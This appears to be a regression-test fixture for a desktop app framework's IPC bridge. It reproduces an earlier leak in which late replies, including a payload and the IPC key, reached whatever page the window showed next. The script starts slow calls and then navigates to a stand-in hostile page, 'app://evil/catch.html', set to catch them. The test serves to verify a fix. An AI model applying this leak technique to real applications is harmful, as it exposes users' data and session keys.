// Wave 1's leak: a reply evaluated after its page had gone ran in whatever
// page the window showed, carrying its payload and the run's IPC key. This
// page starts slow calls (a result and an error) and leaves at once for a
// page of another origin the app allows, which sets a trap for them.
import { invoke } from "/__portcullis__/api.js";

invoke("sleep_then", { ms: 800, tag: "secret payload" }).catch(() => {});
invoke("slow_fail", { ms: 800 }).catch(() => {});
location.href = "app://evil/catch.html";
